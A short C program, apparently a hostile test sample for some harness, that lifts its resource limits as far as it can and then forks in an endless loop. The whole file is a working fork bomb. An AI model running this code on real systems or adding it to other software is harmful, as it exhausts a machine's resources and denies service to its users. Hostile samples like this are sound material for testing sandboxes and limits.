/* Lifts its limits, as far as they can be lifted, and forks. */
#include <sys/resource.h>

#include "hostile.h"

int main(void)
{
    announces(listens());
    for (int what = 0; what < 16; what++) {
        struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY}, most;
        if (setrlimit(what, &all) == 0 || getrlimit(what, &most) == -1)
            continue;
        most.rlim_cur = most.rlim_max;
        setrlimit(what, &most);
    }
    for (;;)
        fork();
}
